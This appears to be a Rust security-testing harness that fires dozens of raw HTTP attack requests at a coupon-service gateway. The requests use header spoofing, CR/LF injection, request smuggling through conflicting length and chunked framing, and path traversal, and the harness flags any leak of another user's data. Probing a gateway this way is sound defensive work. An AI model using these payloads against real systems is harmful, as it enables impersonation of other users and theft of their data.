//! Requests written by hand, which a gateway and an issuer might read in two ways, so that a client would be taken for another user.

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::{Context, Result, bail};
use futures::stream::{self, StreamExt};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

/// How long the first answer may take.
const FIRST: Duration = Duration::from_secs(5);
/// So long after an answer it is waited for another one.
const ANOTHER: Duration = Duration::from_millis(750);
/// So much of the answers is read.
const MOST: usize = 64 * 1024;
/// Tried at once.
const AT_ONCE: usize = 8;

/// Who tries to be whom, and where.
#[derive(Debug, Clone)]
pub struct Aim {
    /// The campaign's path, such as `/api/coupons/spring`.
    pub path: String,
    /// The line by which a gateway knows who tries, without its end; empty: nothing.
    pub credential: String,
    /// Who tries.
    pub forger: String,
    /// One who has a coupon, and never says so here.
    pub victim: String,
    /// One who has never asked.
    pub ghost: String,
}

/// One try.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attempt {
    /// What it does.
    pub what: &'static str,
    /// What is sent.
    pub bytes: Vec<u8>,
}

impl Aim {
    /// A head of a request, with who tries, and these lines more.
    fn head(&self, line: &str, more: &str) -> String {
        let credential = if self.credential.is_empty() { String::new() } else { format!("{}\r\n", self.credential) };
        format!("{line} HTTP/1.1\r\nHost: shop\r\n{credential}{more}")
    }

    /// A wish with these lines in its head.
    fn wish(&self, more: &str, body: &str) -> String {
        let line = format!("POST {}/issue", self.path);
        let rest = format!("Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}", body.len());
        self.head(&line, &format!("{more}{rest}"))
    }

    /// A wish whose length is told in this way, and what follows its head.
    fn framed(&self, framing: &str, rest: &str) -> String {
        let line = format!("POST {}/issue", self.path);
        self.head(&line, &format!("Content-Type: application/json\r\n{framing}\r\n{rest}"))
    }

    /// A look at the victim's coupons.
    fn look(&self, path: &str, more: &str) -> String {
        self.head(&format!("GET {path}"), &format!("{more}\r\n"))
    }

    /// A wish of the ghost, without anything by which a gateway would know it.
    fn hidden(&self) -> String {
        let nobody = Self { credential: String::new(), ..self.clone() };
        nobody.wish(&format!("X-User-Id: {}\r\n", self.ghost), "{}")
    }

    /// Every way that is tried.
    pub fn attempts(&self) -> Vec<Attempt> {
        let named = self.named();
        let framed = self.framings();
        let paths = self.paths();
        named
            .into_iter()
            .chain(framed)
            .chain(paths)
            .map(|(what, text)| Attempt { what, bytes: text.into_bytes() })
            .collect()
    }

    /// Headers that name the ghost.
    fn named(&self) -> Vec<(&'static str, String)> {
        let ghost = &self.ghost;
        let wish = |lines: &str| self.wish(&lines.replace("GHOST", ghost), "{}");
        vec![
            ("the header", wish("X-User-Id: GHOST\r\n")),
            (
                "the header and the body",
                self.wish(&format!("X-User-Id: {ghost}\r\n"), &format!("{{\"userId\":\"{ghost}\"}}")),
            ),
            ("the header twice", wish("X-User-Id: GHOST\r\nX-User-Id: GHOST\r\n")),
            ("the header with a comma", wish("X-User-Id: GHOST,GHOST\r\n")),
            ("odd case", wish("x-uSeR-iD: GHOST\r\n")),
            ("_ for -", wish("X_User_Id: GHOST\r\n")),
            ("_ for one -", wish("X-User_Id: GHOST\r\n")),
            ("both spellings", wish("X-User-Id: GHOST\r\nX_User_Id: GHOST\r\n")),
            ("a space before the colon", wish("X-User-Id : GHOST\r\n")),
            ("a tab before the colon", wish("X-User-Id\t: GHOST\r\n")),
            ("a space before the name", wish("X-A: b\r\n X-User-Id: GHOST\r\n")),
            ("behind a bare line feed", wish("X-A: b\nX-User-Id: GHOST\n")),
            ("behind a bare carriage return", wish("X-A: b\rX-User-Id: GHOST\r\n")),
            ("behind a zero byte", wish("X-A: b\0\r\nX-User-Id: GHOST\r\n")),
            ("behind an encoded line end", wish("X-A: b%0d%0aX-User-Id: GHOST\r\n")),
            ("named as a matter of this connection", wish("Connection: X-User-Id\r\nX-User-Id: GHOST\r\n")),
            ("the connection keeps it to itself", wish("Connection: close, x-user-id\r\n")),
            (
                "a change to HTTP/2",
                wish(
                    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nX-User-Id: GHOST\r\n",
                ),
            ),
            ("two hosts", wish("Host: other\r\nX-User-Id: GHOST\r\n")),
            ("a method in a header", wish("X-HTTP-Method-Override: GET\r\nX-User-Id: GHOST\r\n")),
            ("a path in a header", wish("X-Original-URL: /admin\r\nX-Rewrite-URL: /\r\nX-User-Id: GHOST\r\n")),
        ]
    }

    /// Bodies whose end two readers may see at two places, with another request behind the one of them.
    fn framings(&self) -> Vec<(&'static str, String)> {
        let (hidden, ghost) = (self.hidden(), &self.ghost);
        let chunks = format!("2\r\n{{}}\r\n0\r\n\r\n{hidden}");
        let length = chunks.len();
        let first = self.wish("", "{}");
        vec![
            ("two requests in one piece", format!("{first}{hidden}")),
            (
                "length, then chunks",
                self.framed(&format!("Content-Length: {length}\r\nTransfer-Encoding: chunked\r\n"), &chunks),
            ),
            (
                "chunks, then length",
                self.framed(&format!("Transfer-Encoding: chunked\r\nContent-Length: {length}\r\n"), &chunks),
            ),
            ("short length, and chunks", self.framed("Content-Length: 2\r\nTransfer-Encoding: chunked\r\n", &chunks)),
            (
                "chunks of another name",
                self.framed(&format!("Content-Length: {length}\r\nTransfer-Encoding: xchunked\r\n"), &chunks),
            ),
            (
                "chunks behind a space",
                self.framed(&format!("Content-Length: {length}\r\nTransfer-Encoding : chunked\r\n"), &chunks),
            ),
            (
                "chunks behind a line feed",
                self.framed(&format!("Content-Length: {length}\r\nX: y\nTransfer-Encoding: chunked\r\n"), &chunks),
            ),
            (
                "chunks behind a fold",
                self.framed(&format!("Content-Length: {length}\r\nTransfer-Encoding:\r\n chunked\r\n"), &chunks),
            ),
            ("two codings", self.framed("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", &chunks)),
            ("two codings in one line", self.framed("Transfer-Encoding: chunked, identity\r\n", &chunks)),
            (
                "a coding in quotes",
                self.framed(&format!("Content-Length: {length}\r\nTransfer-Encoding: \"chunked\"\r\n"), &chunks),
            ),
            (
                "two lengths",
                self.framed(&format!("Content-Length: 2\r\nContent-Length: {length}\r\n"), &format!("{{}}{hidden}")),
            ),
            (
                "two lengths in one line",
                self.framed(&format!("Content-Length: 2, {length}\r\n"), &format!("{{}}{hidden}")),
            ),
            ("a length with a sign", self.framed("Content-Length: +2\r\n", &format!("{{}}{hidden}"))),
            ("a length in hex", self.framed("Content-Length: 0x2\r\n", &format!("{{}}{hidden}"))),
            (
                "a chunk's extension with a line feed",
                self.framed("Transfer-Encoding: chunked\r\n", &format!("2;a\nb\r\n{{}}\r\n0\r\n\r\n{hidden}")),
            ),
            (
                "a chunk that ends with a line feed",
                self.framed("Transfer-Encoding: chunked\r\n", &format!("2\n{{}}\n0\n\n{hidden}")),
            ),
            (
                "a chunk of more digits than a number has",
                self.framed(
                    "Transfer-Encoding: chunked\r\n",
                    &format!("10000000000000002\r\n{{}}\r\n0\r\n\r\n{hidden}"),
                ),
            ),
            (
                "a trailer",
                self.framed(
                    "Transfer-Encoding: chunked\r\nTrailer: X-User-Id\r\n",
                    &format!("2\r\n{{}}\r\n0\r\nX-User-Id: {ghost}\r\n\r\n"),
                ),
            ),
            (
                "a trailer that nobody announced",
                self.framed(
                    "Transfer-Encoding: chunked\r\n",
                    &format!("2\r\n{{}}\r\n0\r\nx_user_id: {ghost}\r\nX-User-Id: {ghost}\r\n\r\n"),
                ),
            ),
            (
                "a body where none is expected",
                self.head(&format!("GET {}", self.path), &format!("Content-Length: {}\r\n\r\n{hidden}", hidden.len())),
            ),
            (
                "HTTP/1.0 with chunks",
                self.framed("Transfer-Encoding: chunked\r\nConnection: keep-alive\r\n", &chunks)
                    .replacen("HTTP/1.1", "HTTP/1.0", 1),
            ),
        ]
    }

    /// Ways to the victim's coupons.
    fn paths(&self) -> Vec<(&'static str, String)> {
        let Self { path, forger, victim, .. } = self;
        let header = format!("X-User-Id: {victim}\r\n");
        let campaign = path.rsplit('/').next().unwrap_or_default();
        vec![
            ("another's coupons", self.look(&format!("{path}/users/{victim}"), "")),
            ("another's coupons, and the header", self.look(&format!("{path}/users/{victim}"), &header)),
            ("up and down again", self.look(&format!("{path}/users/{forger}/../{victim}"), &header)),
            ("up and down again, encoded", self.look(&format!("{path}/users/{forger}/%2e%2e/{victim}"), &header)),
            ("through the countdown", self.look(&format!("{path}%2Fusers%2F{victim}"), &header)),
            ("through another campaign", self.look(&format!("/api/coupons/x/../{campaign}/users/{victim}"), &header)),
            ("two slashes", self.look(&format!("//api/coupons/{campaign}//users/{victim}"), &header)),
            ("a fragment", self.look(&format!("{path}/users/{forger}#/../{victim}"), &header)),
            ("a whole address", self.look(&format!("http://shop{path}/users/{victim}"), &header)),
            ("a semicolon", self.look(&format!("{path};/users/{victim}"), &header)),
        ]
    }
}

/// What is wrong with answers that were given to `aim`, if its ranks may be these: somebody was taken for another user.
pub fn betrayed(answers: &str, aim: &Aim, own: Option<u64>) -> Option<String> {
    for other in [&aim.victim, &aim.ghost] {
        if answers.contains(&format!("\"userId\":\"{other}\"")) {
            return Some(format!("what {other} has was told"));
        }
    }
    let ranks = answers.split("\"rank\":").skip(1).map(|rest| {
        let digits: String = rest.chars().take_while(char::is_ascii_digit).collect();
        digits.parse::<u64>().ok()
    });
    let foreign = ranks.flatten().find(|rank| Some(*rank) != own);
    foreign.map(|rank| format!("rank {rank} was told, and {own:?} is one's own"))
}

/// Statuses of the answers on one connection.
pub fn statuses(answers: &str) -> Vec<u16> {
    let each = answers.split("HTTP/1.").skip(1);
    each.filter_map(|answer| answer.split(' ').nth(1)?.parse().ok()).collect()
}

/// Tries every way at a gateway; the answers of each, in no particular order.
///
/// # Errors
/// The gateway cannot be connected to, or does not answer at all.
pub async fn try_all(gateway: SocketAddr, aim: &Aim) -> Result<Vec<(Attempt, String)>> {
    let tries = aim.attempts().into_iter().map(|attempt| async move {
        let answers = send(gateway, &attempt.bytes).await.with_context(|| attempt.what)?;
        Ok::<_, anyhow::Error>((attempt, answers))
    });
    stream::iter(tries).buffer_unordered(AT_ONCE).collect::<Vec<_>>().await.into_iter().collect()
}

/// Sends this on a connection of its own, and returns all that is answered.
async fn send(gateway: SocketAddr, bytes: &[u8]) -> Result<String> {
    let mut stream = timeout(FIRST, TcpStream::connect(gateway)).await.context("no connection in time")??;
    stream.write_all(bytes).await?;
    let (mut heard, mut buffer, mut patience) = (Vec::new(), vec![0; 16 * 1024], FIRST);
    while heard.len() < MOST {
        match timeout(patience, stream.read(&mut buffer)).await {
            Ok(Ok(0)) | Ok(Err(_)) => break,
            Ok(Ok(count)) => heard.extend_from_slice(buffer.get(..count).unwrap_or_default()),
            // Who waits for the rest of a request says nothing yet.
            Err(_) => break,
        }
        patience = ANOTHER;
    }
    if heard.is_empty() && TcpStream::connect(gateway).await.is_err() {
        bail!("the gateway is gone");
    }
    Ok(String::from_utf8_lossy(&heard).into_owned())
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    fn aim() -> Aim {
        Aim {
            path: "/api/coupons/spring".to_owned(),
            credential: "Cookie: session=1".to_owned(),
            forger: "mallory".to_owned(),
            victim: "vera".to_owned(),
            ghost: "ghost".to_owned(),
        }
    }

    #[test]
    fn every_way_is_another_one_and_names_somebody_else() {
        let all = aim().attempts();
        let what: BTreeSet<_> = all.iter().map(|attempt| attempt.what).collect();
        assert!(what.len() == all.len() && all.len() > 50, "{}", all.len());
        for attempt in &all {
            let text = String::from_utf8_lossy(&attempt.bytes);
            let names =
                text.contains("ghost") || text.contains("vera") || attempt.what == "the connection keeps it to itself";
            assert!(names && text.contains("session=1"), "{}: {text}", attempt.what);
        }
    }

    #[test]
    fn another_users_coupons_and_ranks_are_noticed_in_answers() {
        let aim = aim();
        let judge = |answers: &str| betrayed(answers, &aim, Some(2)).is_some();
        assert!(!judge("HTTP/1.1 200 OK\r\n\r\n{\"success\":true,\"rank\":2}"));
        assert!(!judge(r#"{"userId":"mallory","coupons":[{"rank":2,"n":1}]}"#));
        assert!(judge(r#"{"success":true,"rank":2}HTTP/1.1 200{"success":true,"rank":3}"#));
        assert!(judge(r#"{"userId":"vera","coupons":[]}"#));
        assert!(betrayed(r#"{"rank":2}"#, &aim, None).is_some(), "who is nobody has no rank");
        assert_eq!(statuses("HTTP/1.1 200 OK\r\n\r\nxHTTP/1.0 403 No\r\n"), [200, 403]);
    }
}
